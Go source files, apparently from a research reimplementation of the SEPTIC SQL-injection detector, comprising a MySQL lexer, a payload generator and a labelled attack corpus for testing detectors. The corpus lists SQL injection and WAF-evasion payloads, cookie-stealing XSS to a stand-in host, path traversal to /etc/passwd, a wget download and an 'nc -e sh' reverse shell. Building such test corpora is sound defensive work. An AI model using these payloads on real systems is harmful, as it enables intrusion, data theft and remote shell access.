		return stmt
	}
}

func cloneSelect(s *SelectStmt) *SelectStmt {
	if s == nil {
		return nil
	}
	c := *s
	if s.Fields != nil {
		c.Fields = make([]SelectField, len(s.Fields))
		for i, f := range s.Fields {
			c.Fields[i] = f
			c.Fields[i].Expr = cloneExpr(f.Expr)
		}
	}
	if s.From != nil {
		c.From = make([]TableRef, len(s.From))
		for i, t := range s.From {
			c.From[i] = t
			c.From[i].On = cloneExpr(t.On)
			c.From[i].Subquery = cloneSelect(t.Subquery)
		}
	}
	c.Where = cloneExpr(s.Where)
	c.GroupBy = cloneExprs(s.GroupBy)
	c.Having = cloneExpr(s.Having)
	c.OrderBy = cloneOrderItems(s.OrderBy)
	c.Limit = cloneLimit(s.Limit)
	if s.Union != nil {
		c.Union = &UnionClause{All: s.Union.All, Next: cloneSelect(s.Union.Next)}
	}
	return &c
}

func cloneExprs(list []Expr) []Expr {
	if list == nil {
		return nil
	}
	out := make([]Expr, len(list))
	for i, e := range list {
		out[i] = cloneExpr(e)
	}
	return out
}

func cloneOrderItems(list []OrderItem) []OrderItem {
	if list == nil {
		return nil
	}
	out := make([]OrderItem, len(list))
	for i, o := range list {
		out[i] = OrderItem{Expr: cloneExpr(o.Expr), Desc: o.Desc}
	}
	return out
}

func cloneLimit(l *Limit) *Limit {
	if l == nil {
		return nil
	}
	return &Limit{Count: cloneExpr(l.Count), Offset: cloneExpr(l.Offset)}
}

func cloneExpr(e Expr) Expr {
	switch x := e.(type) {
	case nil:
		return nil
	case *Literal:
		c := *x
		return &c
	case *ColumnRef:
		c := *x
		return &c
	case *BinaryExpr:
		return &BinaryExpr{Op: x.Op, Left: cloneExpr(x.Left), Right: cloneExpr(x.Right)}
	case *UnaryExpr:
		return &UnaryExpr{Op: x.Op, Operand: cloneExpr(x.Operand)}
	case *FuncCall:
		return &FuncCall{Name: x.Name, Star: x.Star, Distinct: x.Distinct, Args: cloneExprs(x.Args)}
	case *InExpr:
		return &InExpr{Not: x.Not, Left: cloneExpr(x.Left), List: cloneExprs(x.List), Subquery: cloneSelect(x.Subquery)}
	case *BetweenExpr:
		return &BetweenExpr{Not: x.Not, Expr: cloneExpr(x.Expr), Low: cloneExpr(x.Low), High: cloneExpr(x.High)}
	case *IsNullExpr:
		return &IsNullExpr{Not: x.Not, Expr: cloneExpr(x.Expr)}
	case *SubqueryExpr:
		return &SubqueryExpr{Select: cloneSelect(x.Select)}
	case *ExistsExpr:
		return &ExistsExpr{Not: x.Not, Select: cloneSelect(x.Select)}
	case *Placeholder:
		return &Placeholder{}
	case *CaseExpr:
		c := &CaseExpr{Operand: cloneExpr(x.Operand), Else: cloneExpr(x.Else)}
		if x.Whens != nil {
			c.Whens = make([]WhenClause, len(x.Whens))
			for i, w := range x.Whens {
				c.Whens[i] = WhenClause{Cond: cloneExpr(w.Cond), Result: cloneExpr(w.Result)}
			}
		}
		return c
	default:
		return e
	}
}
