package sqlparser

import (
	"fmt"
	"strings"
)

// Lexer tokenizes a decoded SQL query string.
//
// The lexer mirrors MySQL's scanner in the behaviours that matter for
// injection analysis: backslash escape processing inside string literals,
// quote doubling (” -> '), the three comment syntaxes (/* */, -- with a
// following space or end of line, and #), and case-insensitive keywords.
type Lexer struct {
	input string
	pos   int
	// comments accumulates the bodies of comments seen so far, in order.
	comments []string
}

// NewLexer returns a lexer over the given (already charset-decoded) input.
func NewLexer(input string) *Lexer {
	return &Lexer{input: input}
}

// Comments returns the bodies of all comments consumed so far. SEPTIC's ID
// generator reads the first comment of a query to extract the optional
// external identifier the application supplied.
func (l *Lexer) Comments() []string {
	out := make([]string, len(l.comments))
	copy(out, l.comments)
	return out
}

// SyntaxError describes a lexical or grammatical error with its position.
type SyntaxError struct {
	Pos int
	Msg string
}

// Error implements the error interface.
func (e *SyntaxError) Error() string {
	return fmt.Sprintf("syntax error at byte %d: %s", e.Pos, e.Msg)
}

func (l *Lexer) errorf(pos int, format string, args ...any) error {
	return &SyntaxError{Pos: pos, Msg: fmt.Sprintf(format, args...)}
}

// Next returns the next token, skipping whitespace and accumulating
// comments as side information (comments also surface as TokenComment so
// the parser can attach them to statements).
func (l *Lexer) Next() (Token, error) {
	l.skipSpace()
	if l.pos >= len(l.input) {
		return Token{Kind: TokenEOF, Pos: l.pos}, nil
	}
	start := l.pos
	c := l.input[l.pos]

	switch {
	case c == '/' && l.peekAt(1) == '*':
		body, err := l.scanBlockComment()
		if err != nil {
			return Token{}, err
		}
		l.comments = append(l.comments, body)
		return Token{Kind: TokenComment, Text: body, Pos: start}, nil
	case c == '-' && l.peekAt(1) == '-' && l.isLineCommentStart():
		body := l.scanLineComment(2)
		l.comments = append(l.comments, body)
		return Token{Kind: TokenComment, Text: body, Pos: start}, nil
	case c == '#':
		body := l.scanLineComment(1)
		l.comments = append(l.comments, body)
		return Token{Kind: TokenComment, Text: body, Pos: start}, nil
	case c == '\'' || c == '"':
		s, err := l.scanString(c)
		if err != nil {
			return Token{}, err
		}
		return Token{Kind: TokenString, Text: s, Pos: start}, nil
	case c == '`':
		s, err := l.scanBacktickIdent()
		if err != nil {
			return Token{}, err
		}
		return Token{Kind: TokenIdent, Text: s, Pos: start}, nil
	case c == '0' && (l.peekAt(1) == 'x' || l.peekAt(1) == 'X') && isHexDigit(l.peekAt(2)):
		return l.scanHexLiteral()
	case isDigit(c) || (c == '.' && isDigit(l.peekAt(1))):
		return l.scanNumber()
	case isIdentStart(c):
		return l.scanIdentOrKeyword(), nil
	case c == ',':
		l.pos++
		return Token{Kind: TokenComma, Text: ",", Pos: start}, nil
	case c == '.':
		l.pos++
		return Token{Kind: TokenDot, Text: ".", Pos: start}, nil
	case c == '(':
		l.pos++
		return Token{Kind: TokenLParen, Text: "(", Pos: start}, nil
	case c == ')':
		l.pos++
		return Token{Kind: TokenRParen, Text: ")", Pos: start}, nil
	case c == ';':
		l.pos++
		return Token{Kind: TokenSemicolon, Text: ";", Pos: start}, nil
	case c == '?':
		l.pos++
		return Token{Kind: TokenPlaceholder, Text: "?", Pos: start}, nil
	case strings.IndexByte(operatorStarts, c) >= 0:
		return l.scanOperator()
	default:
		return Token{}, l.errorf(start, "unexpected character %q", rune(c))
	}
}

func (l *Lexer) peekAt(off int) byte {
	if l.pos+off >= len(l.input) {
		return 0
	}
	return l.input[l.pos+off]
}

// isLineCommentStart reports whether the "--" at the cursor starts a
// comment. MySQL requires "--" to be followed by whitespace or end of
// input (unlike standard SQL), which is why the classic payloads end in
// "-- " with a trailing space.
func (l *Lexer) isLineCommentStart() bool {
	next := l.peekAt(2)
	return next == 0 || next == ' ' || next == '\t' || next == '\n' || next == '\r'
}

func (l *Lexer) skipSpace() {
	for l.pos < len(l.input) {
		switch l.input[l.pos] {
		case ' ', '\t', '\n', '\r':
			l.pos++
		default:
			return
		}
	}
}

func (l *Lexer) scanBlockComment() (string, error) {
	start := l.pos
	l.pos += 2 // consume "/*"
	end := strings.Index(l.input[l.pos:], "*/")
	if end < 0 {
		return "", l.errorf(start, "unterminated block comment")
	}
	body := l.input[l.pos : l.pos+end]
	l.pos += end + 2
	return strings.TrimSpace(body), nil
}

func (l *Lexer) scanLineComment(markerLen int) string {
	l.pos += markerLen
	start := l.pos
	for l.pos < len(l.input) && l.input[l.pos] != '\n' {
		l.pos++
	}
	return strings.TrimSpace(l.input[start:l.pos])
}

// scanString consumes a quoted string literal, processing backslash
// escapes and quote doubling the way MySQL's scanner does. The returned
// text is the decoded value: this is where a stored "\'" collapses to a
// plain quote, enabling second-order injection when the value is later
// concatenated into another query.
func (l *Lexer) scanString(quote byte) (string, error) {
	start := l.pos
	l.pos++ // consume opening quote
	var b strings.Builder
	for l.pos < len(l.input) {
		c := l.input[l.pos]
		switch {
		case c == '\\' && l.pos+1 < len(l.input):
			// MySQL escape sequences (NO_BACKSLASH_ESCAPES off, the default).
			next := l.input[l.pos+1]
			if next == '%' || next == '_' {
				// \% and \_ pass through WITH the backslash: they are
				// LIKE-pattern escapes, resolved by LIKE itself, not by
				// the scanner (MySQL manual, string literals).
				b.WriteByte('\\')
				b.WriteByte(next)
			} else {
				b.WriteByte(unescapeByte(next))
			}
			l.pos += 2
		case c == quote && l.peekAt(1) == quote:
			// Doubled quote is a literal quote.
			b.WriteByte(quote)
			l.pos += 2
		case c == quote:
			l.pos++
			return b.String(), nil
		default:
			b.WriteByte(c)
			l.pos++
		}
	}
	return "", l.errorf(start, "unterminated string literal")
}

// unescapeByte maps the byte after a backslash to its decoded value,
// following MySQL's escape table.
func unescapeByte(c byte) byte {
	switch c {
	case 'n':
		return '\n'
	case 't':
		return '\t'
	case 'r':
		return '\r'
	case '0':
		return 0
	case 'b':
		return '\b'
	case 'Z':
		return 0x1a
	default:
		// \' \" \\ \% \_ and anything else: the escaped byte itself.
		return c
	}
}

func (l *Lexer) scanBacktickIdent() (string, error) {
	start := l.pos
	l.pos++ // consume opening backtick
	idStart := l.pos
	for l.pos < len(l.input) && l.input[l.pos] != '`' {
		l.pos++
	}
	if l.pos >= len(l.input) {
		return "", l.errorf(start, "unterminated quoted identifier")
	}
	name := l.input[idStart:l.pos]
	l.pos++ // consume closing backtick
	if name == "" {
		// MySQL rejects `` (ERROR 1064); accepting it here would also
		// break the Format round trip, since an empty name renders as
		// no identifier at all.
		return "", l.errorf(start, "empty quoted identifier")
	}
	return name, nil
}

// scanHexLiteral consumes a MySQL hexadecimal literal (0x6162...),
// which the server treats as a binary STRING — the property attackers
// exploit to smuggle string values without quote characters. Odd-length
// literals are left-padded with a zero nibble, as MySQL does.
func (l *Lexer) scanHexLiteral() (Token, error) {
	start := l.pos
	l.pos += 2 // consume "0x"
	digitStart := l.pos
	for l.pos < len(l.input) && isHexDigit(l.input[l.pos]) {
		l.pos++
	}
	digits := l.input[digitStart:l.pos]
	if len(digits)%2 == 1 {
		digits = "0" + digits
	}
	decoded := make([]byte, 0, len(digits)/2)
	for i := 0; i < len(digits); i += 2 {
		hi, _ := hexNibble(digits[i])
		lo, _ := hexNibble(digits[i+1])
		decoded = append(decoded, hi<<4|lo)
	}
	return Token{Kind: TokenString, Text: string(decoded), Pos: start}, nil
}

func isHexDigit(c byte) bool {
	return isDigit(c) || (c >= 'a' && c <= 'f') || (c >= 'A' && c <= 'F')
}

func hexNibble(c byte) (byte, bool) {
	switch {
	case c >= '0' && c <= '9':
		return c - '0', true
	case c >= 'a' && c <= 'f':
		return c - 'a' + 10, true
	case c >= 'A' && c <= 'F':
		return c - 'A' + 10, true
	default:
		return 0, false
	}
}

func (l *Lexer) scanNumber() (Token, error) {
	start := l.pos
	sawDot := false
	sawExp := false
	for l.pos < len(l.input) {
		c := l.input[l.pos]
		switch {
		case isDigit(c):
			l.pos++
		case c == '.' && !sawDot && !sawExp:
			sawDot = true
			l.pos++
		case (c == 'e' || c == 'E') && !sawExp && l.pos > start && isDigit(l.input[l.pos-1]):
			if next := l.peekAt(1); isDigit(next) || ((next == '+' || next == '-') && isDigit(l.peekAt(2))) {
				sawExp = true
				l.pos++
				if next := l.peekAt(0); next == '+' || next == '-' {
					l.pos++
				}
			} else {
				return l.numberToken(start, sawDot, sawExp), nil
			}
		default:
			return l.numberToken(start, sawDot, sawExp), nil
		}
	}
	return l.numberToken(start, sawDot, sawExp), nil
}

func (l *Lexer) numberToken(start int, sawDot, sawExp bool) Token {
	text := l.input[start:l.pos]
	kind := TokenInt
	if sawDot || sawExp {
		kind = TokenFloat
	}
	return Token{Kind: kind, Text: text, Pos: start}
}

func (l *Lexer) scanIdentOrKeyword() Token {
	start := l.pos
	for l.pos < len(l.input) && isIdentPart(l.input[l.pos]) {
		l.pos++
	}
	text := l.input[start:l.pos]
	if canonical, ok := keywords[strings.ToUpper(text)]; ok {
		return Token{Kind: TokenKeyword, Text: canonical, Pos: start}
	}
	return Token{Kind: TokenIdent, Text: text, Pos: start}
}

func (l *Lexer) scanOperator() (Token, error) {
	start := l.pos
	two := ""
	if l.pos+2 <= len(l.input) {
		two = l.input[l.pos : l.pos+2]
	}
	switch two {
	case "<=", ">=", "<>", "!=", "&&", "||", "<<", ">>", ":=":
		l.pos += 2
		return Token{Kind: TokenOperator, Text: two, Pos: start}, nil
	}
	c := l.input[l.pos]
	l.pos++
	return Token{Kind: TokenOperator, Text: string(c), Pos: start}, nil
}

func isDigit(c byte) bool { return c >= '0' && c <= '9' }

func isIdentStart(c byte) bool {
	return c == '_' || c == '$' || (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z')
}

func isIdentPart(c byte) bool { return isIdentStart(c) || isDigit(c) }

// Tokenize runs the lexer over input and returns all tokens up to and
// including EOF. Comment tokens are included in the stream.
func Tokenize(input string) ([]Token, error) {
	lx := NewLexer(input)
	var toks []Token
	for {
		t, err := lx.Next()
		if err != nil {
			return nil, err
		}
		toks = append(toks, t)
		if t.Kind == TokenEOF {
			return toks, nil
		}
	}
}
