// Package sqlparser implements a MySQL-flavoured SQL lexer and parser.
//
// The parser is the first half of the "DBMS substrate" this repository
// builds to host SEPTIC: it reproduces the parse/validate stage of MySQL,
// including the parse-time character decodings that give rise to the
// semantic-mismatch vulnerabilities the paper demonstrates (see
// DESIGN.md §4). Queries are decoded, tokenized and parsed into an AST;
// package qstruct then flattens the AST into the stack-of-items
// representation (query structure) that SEPTIC compares against learned
// query models.
package sqlparser

import "fmt"

// TokenKind identifies the lexical class of a token.
type TokenKind int

// Token kinds. Enums start at 1 so the zero value is invalid.
const (
	TokenInvalid TokenKind = iota // zero value, never produced by the lexer
	TokenIdent
	TokenKeyword
	TokenString
	TokenInt
	TokenFloat
	TokenOperator
	TokenComma
	TokenDot
	TokenLParen
	TokenRParen
	TokenSemicolon
	TokenComment
	TokenPlaceholder // '?' parameter marker
	TokenEOF
)

var tokenKindNames = map[TokenKind]string{
	TokenInvalid:     "invalid",
	TokenIdent:       "identifier",
	TokenKeyword:     "keyword",
	TokenString:      "string",
	TokenInt:         "integer",
	TokenFloat:       "float",
	TokenOperator:    "operator",
	TokenComma:       "comma",
	TokenDot:         "dot",
	TokenLParen:      "left parenthesis",
	TokenRParen:      "right parenthesis",
	TokenSemicolon:   "semicolon",
	TokenComment:     "comment",
	TokenPlaceholder: "placeholder",
	TokenEOF:         "end of input",
}

// String returns a human-readable name for the token kind.
func (k TokenKind) String() string {
	if s, ok := tokenKindNames[k]; ok {
		return s
	}
	return fmt.Sprintf("TokenKind(%d)", int(k))
}

// Token is a single lexical token with its source position.
type Token struct {
	Kind TokenKind
	// Text is the token's decoded text. For TokenString it is the string
	// value after escape processing; for TokenComment it is the comment
	// body without the delimiters; for keywords it is upper-cased.
	Text string
	// Pos is the byte offset of the token's first byte in the decoded
	// query text.
	Pos int
}

// String implements fmt.Stringer for debugging output.
func (t Token) String() string {
	return fmt.Sprintf("%s(%q)@%d", t.Kind, t.Text, t.Pos)
}

// keywords is the set of reserved words recognised by the lexer. The map
// value is always the canonical upper-case spelling.
var keywords = map[string]string{
	"SELECT": "SELECT", "FROM": "FROM", "WHERE": "WHERE",
	"AND": "AND", "OR": "OR", "NOT": "NOT", "XOR": "XOR",
	"INSERT": "INSERT", "INTO": "INTO", "VALUES": "VALUES",
	"UPDATE": "UPDATE", "SET": "SET",
	"DELETE": "DELETE",
	"CREATE": "CREATE", "TABLE": "TABLE", "DROP": "DROP",
	"IF": "IF", "EXISTS": "EXISTS",
	"PRIMARY": "PRIMARY", "KEY": "KEY", "AUTO_INCREMENT": "AUTO_INCREMENT",
	"INT": "INT", "INTEGER": "INTEGER", "BIGINT": "BIGINT",
	"FLOAT": "FLOAT", "DOUBLE": "DOUBLE", "REAL": "REAL",
	"TEXT": "TEXT", "VARCHAR": "VARCHAR", "CHAR": "CHAR",
	"BOOL": "BOOL", "BOOLEAN": "BOOLEAN", "DATETIME": "DATETIME",
	"ORDER": "ORDER", "GROUP": "GROUP", "BY": "BY", "HAVING": "HAVING",
	"ASC": "ASC", "DESC": "DESC",
	"LIMIT": "LIMIT", "OFFSET": "OFFSET",
	"AS": "AS", "DISTINCT": "DISTINCT", "ALL": "ALL",
	"UNION": "UNION",
	"JOIN":  "JOIN", "INNER": "INNER", "LEFT": "LEFT", "RIGHT": "RIGHT",
	"OUTER": "OUTER", "CROSS": "CROSS", "ON": "ON",
	"IN": "IN", "IS": "IS", "NULL": "NULL", "LIKE": "LIKE",
	"BETWEEN": "BETWEEN",
	"TRUE":    "TRUE", "FALSE": "FALSE",
	"BEGIN": "BEGIN", "COMMIT": "COMMIT", "ROLLBACK": "ROLLBACK",
	"SHOW": "SHOW", "TABLES": "TABLES", "DESCRIBE": "DESCRIBE",
	"EXPLAIN": "EXPLAIN",
	"CASE":    "CASE", "WHEN": "WHEN", "THEN": "THEN", "ELSE": "ELSE", "END": "END",
	"DEFAULT": "DEFAULT", "UNIQUE": "UNIQUE",
}

// operatorStarts lists the runes that can begin an operator token.
const operatorStarts = "=<>!+-*/%&|^~"
