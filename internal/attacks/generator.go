package attacks

import (
	"math/rand"
	"strings"
)

// This file is the corpus's sqlmap stand-in (§IV: "the attacker uses the
// browser and/or the sqlmap tool"): a generator that enumerates payload
// variants the way an injection scanner does — combinations of quote
// representations, boolean connectives, tautology expressions and
// comment terminators — for fuzz-style stress testing of the detectors.

// quoteReprs are the ways a quote can reach the DBMS: the ASCII quote,
// an escaped quote (inert), and the confusables MySQL folds into quotes.
var quoteReprs = []string{`'`, `\'`, "ʼ", "’", "＇", "′"}

// connectives chain the injected condition.
var connectives = []string{"OR", "or", "||", "AND", "XOR"}

// tautologies are the injected conditions, with Q standing for the
// chosen quote representation.
var tautologies = []string{
	"1=1", "2>1", "Q1Q=Q1Q", "QxQ=QxQ", "1 IN (1)", "QQ=QQ", "NOT 1=2",
}

// terminators cut off the remainder of the template query.
var terminators = []string{"-- ", "#", ""}

// GenerateStringContext returns n deterministic payload variants for a
// single-quoted string entry point ("... WHERE col = '<payload>'").
func GenerateStringContext(seed int64, n int) []string {
	rng := rand.New(rand.NewSource(seed))
	out := make([]string, 0, n)
	for i := 0; i < n; i++ {
		q := quoteReprs[rng.Intn(len(quoteReprs))]
		conn := connectives[rng.Intn(len(connectives))]
		taut := strings.ReplaceAll(tautologies[rng.Intn(len(tautologies))], "Q", q)
		term := terminators[rng.Intn(len(terminators))]
		prefix := ""
		if rng.Intn(2) == 0 {
			prefix = "zz" // harmless leading text
		}
		out = append(out, prefix+q+" "+conn+" "+taut+term)
	}
	return out
}

// GenerateNumericContext returns n deterministic payload variants for an
// unquoted numeric entry point ("... WHERE col = <payload>").
func GenerateNumericContext(seed int64, n int) []string {
	rng := rand.New(rand.NewSource(seed))
	shapes := []string{
		"1 OR 1=1",
		"1 || 1=1",
		"0 UNION SELECT username, email FROM wm_users-- ",
		"1 AND 2=2",
		"(1) OR (1)",
		"1 OR ts > 0",
		"-1 OR 1 IN (1)",
		"1 XOR 0",
		"1 OR NOT 1=2",
	}
	out := make([]string, 0, n)
	for i := 0; i < n; i++ {
		out = append(out, shapes[rng.Intn(len(shapes))])
	}
	return out
}
