// Package attacks is the labelled attack corpus of the demonstration:
// every attack class named in the paper (§II-D, §III-A, §IV), expressed
// as requests against the WaspMon application, plus benign look-alike
// traffic for false-positive measurement.
//
// Each case is labelled with the class taxonomy and with the *designed*
// evasion properties (does it exploit the semantic mismatch? is it
// invisible to a WAF? to a SQL proxy?); the test suite and the accuracy
// benchmarks verify that the implemented mechanisms behave exactly as
// labelled — phase A (sanitization fails), phase B (ModSecurity has
// false negatives), phase D/E (SEPTIC catches everything).
package attacks

import "github.com/septic-db/septic/internal/webapp"

// Kind is the attack family, per the paper's two detector branches.
type Kind int

// Attack kinds.
const (
	KindInvalid Kind = iota
	// KindSQLI attacks change the executed query.
	KindSQLI
	// KindStored attacks smuggle payloads into the database for later
	// non-SQL damage (XSS, file inclusion, command execution).
	KindStored
)

// String names the kind.
func (k Kind) String() string {
	switch k {
	case KindSQLI:
		return "sqli"
	case KindStored:
		return "stored"
	default:
		return "invalid"
	}
}

// Class is the fine-grained attack class.
type Class string

// Attack classes (the paper's taxonomy plus the WAF-evasion variants the
// demo uses).
const (
	ClassTautology     Class = "tautology"
	ClassMimicry       Class = "syntax-mimicry"
	ClassUnionExtract  Class = "union-extraction"
	ClassNumericCtx    Class = "numeric-context"
	ClassSecondOrder   Class = "second-order"
	ClassEncodedQuote  Class = "encoded-quote" // semantic mismatch via confusables
	ClassOperatorSynon Class = "operator-synonym"
	ClassOrderBy       Class = "orderby-injection"
	ClassStoredXSS     Class = "stored-xss"
	ClassRFI           Class = "remote-file-inclusion"
	ClassLFI           Class = "local-file-inclusion"
	ClassOSCI          Class = "os-command-injection"
	ClassRCE           Class = "remote-command-execution"
)

// Case is one attack in the corpus.
type Case struct {
	// Name is the unique case identifier used in reports.
	Name  string
	Kind  Kind
	Class Class
	// Setup requests prepare the attack (e.g. planting the second-order
	// payload); they must all succeed for the attack to be armed.
	Setup []webapp.Request
	// Request is the attack trigger.
	Request webapp.Request
	// Mismatch marks attacks that exploit the semantic mismatch: the
	// malicious metacharacters only materialize inside the DBMS.
	Mismatch bool
	// EvadesWAF is the designed outcome against the mini-CRS WAF
	// (phase B false negatives). Verified by tests.
	EvadesWAF bool
	// EvadesProxy is the designed outcome against the GreenSQL-style
	// learning proxy. Verified by tests.
	EvadesProxy bool
	// Description explains the mechanism for the demo narration.
	Description string
}

// Corpus returns the attack cases against WaspMon.
func Corpus() []Case {
	return []Case{
		{
			Name:  "tautology-encoded-quote",
			Kind:  KindSQLI,
			Class: ClassEncodedQuote,
			Request: webapp.Request{Path: "/device/view", Params: map[string]string{
				"name": "nothingʼ OR ʼ1ʼ=ʼ1",
			}},
			Mismatch:    true,
			EvadesWAF:   true,
			EvadesProxy: true,
			Description: "U+02BC confusables pass mysql_real_escape_string and the WAF; MySQL's charset decode turns them into live quotes forming OR '1'='1'",
		},
		{
			Name:  "mimicry-encoded-quote",
			Kind:  KindSQLI,
			Class: ClassMimicry,
			Request: webapp.Request{Path: "/device/view", Params: map[string]string{
				"name": "xʼ AND ʼ1ʼ=ʼ1",
			}},
			Mismatch:    true,
			EvadesWAF:   true,
			EvadesProxy: true,
			Description: "syntax mimicry: the decoded query keeps the trained node count, only a FIELD_ITEM becomes an INT_ITEM (Fig. 4)",
		},
		{
			Name:  "tautology-numeric-context",
			Kind:  KindSQLI,
			Class: ClassNumericCtx,
			Request: webapp.Request{Path: "/reading/history", Params: map[string]string{
				"device": "1 OR 1=1", "limit": "100",
			}},
			Mismatch:    true, // escaping is a no-op without quotes: a semantic gap, though not a charset one
			EvadesWAF:   false,
			EvadesProxy: false,
			Description: "numeric context needs no quotes, so escaping cannot help; the WAF's tautology regex still sees 'OR 1=1'",
		},
		{
			Name:  "union-numeric-context",
			Kind:  KindSQLI,
			Class: ClassUnionExtract,
			Request: webapp.Request{Path: "/reading/history", Params: map[string]string{
				"device": "0 UNION SELECT username, email FROM wm_users-- ", "limit": "100",
			}},
			Mismatch:    true,
			EvadesWAF:   false,
			EvadesProxy: false,
			Description: "UNION-based extraction of another table through the readings projection",
		},
		{
			Name:  "tautology-operator-synonym",
			Kind:  KindSQLI,
			Class: ClassOperatorSynon,
			Request: webapp.Request{Path: "/reading/history", Params: map[string]string{
				"device": "1 || 1=1", "limit": "100",
			}},
			Mismatch:    true, // numeric context again: nothing for escaping to do
			EvadesWAF:   true, // the mini-CRS tautology rule anchors on OR/AND words; '||' is MySQL OR
			EvadesProxy: false,
			Description: "operator-synonym evasion: '||' is OR in MySQL but matches no WAF keyword rule",
		},
		{
			Name:  "orderby-subquery",
			Kind:  KindSQLI,
			Class: ClassOrderBy,
			Request: webapp.Request{Path: "/devices", Params: map[string]string{
				"sort": "(SELECT username FROM wm_users LIMIT 1)",
			}},
			Mismatch:    true, // identifier context: escaping cannot quote a column name
			EvadesWAF:   true, // no quote, no UNION, no stacked query — nothing for the CRS to anchor on
			EvadesProxy: false,
			Description: "ORDER BY injection: a scalar subquery as the sort key exfiltrates data through result ordering",
		},
		{
			Name:  "orderby-case-blind",
			Kind:  KindSQLI,
			Class: ClassOrderBy,
			Request: webapp.Request{Path: "/devices", Params: map[string]string{
				// Blind boolean probe: the result ordering reveals whether
				// the inner condition holds, one bit per request.
				"sort": "(CASE WHEN (SELECT COUNT(*) FROM wm_users) > 1 THEN name ELSE location END)",
			}},
			Mismatch:    true,
			EvadesWAF:   true, // CASE/WHEN carry none of the CRS anchor tokens
			EvadesProxy: false,
			Description: "blind ORDER BY injection: a CASE expression turns result ordering into a one-bit oracle",
		},
		{
			Name:  "second-order-profile",
			Kind:  KindSQLI,
			Class: ClassSecondOrder,
			Setup: []webapp.Request{{Path: "/user/register", Params: map[string]string{
				"username": "garage' || '1'='1", "email": "so@example.com", "notes": "-",
			}}},
			Request: webapp.Request{Path: "/user/profile", Params: map[string]string{
				// With the standard background traffic (operator seeded as
				// id 1, alice and bob registered during training), the
				// planted user is id 4.
				"id": "4",
			}},
			Mismatch:  true,
			EvadesWAF: true, // the trigger request carries only a numeric id
			// The proxy DOES see the rebuilt read-back query, whose ASCII
			// quote visibly changes the shape — an honest catch for the
			// proxy. The encoded variant below is the one it misses.
			EvadesProxy: false,
			Description: "second-order: the stored quote is inert at INSERT (escaped) and live when the profile page concatenates it back (§II-D1)",
		},
		{
			Name:  "second-order-encoded",
			Kind:  KindSQLI,
			Class: ClassSecondOrder,
			Setup: []webapp.Request{{Path: "/user/register2", Params: map[string]string{
				// Stored through the prepared-statement endpoint: bound
				// values skip the text pipeline (MySQL binary protocol),
				// so the confusables reach the column verbatim — the
				// paper's concat(ID34FG,U+02BC-- ) trick.
				"username": "garageʼ || ʼ1ʼ=ʼ1", "email": "so2@example.com", "notes": "-",
			}}},
			Request: webapp.Request{Path: "/user/profile", Params: map[string]string{
				"id": "4",
			}},
			Mismatch:    true,
			EvadesWAF:   true, // no ASCII metacharacters anywhere in the requests
			EvadesProxy: true, // the read-back text holds one opaque literal until the DBMS decodes it
			Description: "second-order with U+02BC: every byte looks benign until MySQL's charset decode turns the stored confusables into live quotes (§II-D1, Fig. 3)",
		},
		{
			Name:  "stored-xss-script",
			Kind:  KindStored,
			Class: ClassStoredXSS,
			Request: webapp.Request{Path: "/note/add", Params: map[string]string{
				"id": "1", "notes": "<script>document.location='http://evil/?c='+document.cookie</script>",
			}},
			Mismatch:    false,
			EvadesWAF:   false,
			EvadesProxy: true, // the INSERT shape is exactly the trained one
			Description: "the paper's stored XSS: quotes escaped, markup untouched, echoed by /note/view",
		},
		{
			Name:  "stored-xss-data-uri",
			Kind:  KindStored,
			Class: ClassStoredXSS,
			Request: webapp.Request{Path: "/note/add", Params: map[string]string{
				"id": "1", "notes": `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">win a prize</a>`,
			}},
			Mismatch:    false,
			EvadesWAF:   true, // no <script>, no on*=, no javascript: — nothing for the CRS to anchor on
			EvadesProxy: true,
			Description: "data-URI XSS: the payload carries active content only in a scheme the rule set does not model",
		},
		{
			Name:  "stored-rfi",
			Kind:  KindStored,
			Class: ClassRFI,
			Request: webapp.Request{Path: "/note/add", Params: map[string]string{
				"id": "1", "notes": "https://evil.example/payload.txt?cmd=id",
			}},
			Mismatch:    false,
			EvadesWAF:   true, // the CRS RFI rule anchors on executable extensions
			EvadesProxy: true,
			Description: "remote inclusion bait smuggled as a .txt URL with a command query string",
		},
		{
			Name:  "stored-lfi",
			Kind:  KindStored,
			Class: ClassLFI,
			Request: webapp.Request{Path: "/note/add", Params: map[string]string{
				"id": "1", "notes": "../../../../etc/passwd",
			}},
			Mismatch:    false,
			EvadesWAF:   false,
			EvadesProxy: true,
			Description: "path traversal to a sensitive file, for a later include()",
		},
		{
			Name:  "stored-osci-newline",
			Kind:  KindStored,
			Class: ClassOSCI,
			Request: webapp.Request{Path: "/note/add", Params: map[string]string{
				// Note the payload avoids /etc/ paths and executable URL
				// extensions, or the LFI/RFI rules would fire instead.
				"id": "1", "notes": "backup.tgz\nwget http://evil.example/x.bin",
			}},
			Mismatch:    false,
			EvadesWAF:   true, // newline chaining: the CRS RCE rule anchors on ;|&
			EvadesProxy: true,
			Description: "newline command chaining for a value later passed to a shell",
		},
		{
			Name:  "stored-rce-substitution",
			Kind:  KindStored,
			Class: ClassRCE,
			Request: webapp.Request{Path: "/note/add", Params: map[string]string{
				"id": "1", "notes": "report-$(nc -e sh evil 4444).pdf",
			}},
			Mismatch:    false,
			EvadesWAF:   false,
			EvadesProxy: true,
			Description: "command substitution smuggled inside a filename",
		},
	}
}

// Benign returns tricky-but-benign requests used for false-positive
// measurement: values that look suspicious to naive filters but must
// pass every mechanism.
func Benign() []webapp.Request {
	return []webapp.Request{
		{Path: "/device/view", Params: map[string]string{"name": "heatpump"}},
		{Path: "/device/view", Params: map[string]string{"name": "O'Brien unit"}},        // apostrophe in honest data
		{Path: "/device/view", Params: map[string]string{"name": "AC unit (2nd floor)"}}, // parentheses
		{Path: "/reading/history", Params: map[string]string{"device": "3", "limit": "7"}},
		{Path: "/note/add", Params: map[string]string{"id": "1", "notes": "check wiring & fuses; then re-test"}},
		{Path: "/note/add", Params: map[string]string{"id": "1", "notes": "power < 100W is fine, > 5kW is not"}},
		{Path: "/note/add", Params: map[string]string{"id": "1", "notes": "manual at https://example.com/manual"}},
		{Path: "/user/register", Params: map[string]string{"username": "anne-marie", "email": "am@example.com", "notes": "new operator"}},
		{Path: "/user/profile", Params: map[string]string{"id": "1"}},
		{Path: "/devices", Params: map[string]string{}},
	}
}

// MismatchCount counts the corpus cases that exploit the semantic
// mismatch (reported in EXPERIMENTS.md).
func MismatchCount() int {
	n := 0
	for _, c := range Corpus() {
		if c.Mismatch {
			n++
		}
	}
	return n
}
