package attacks

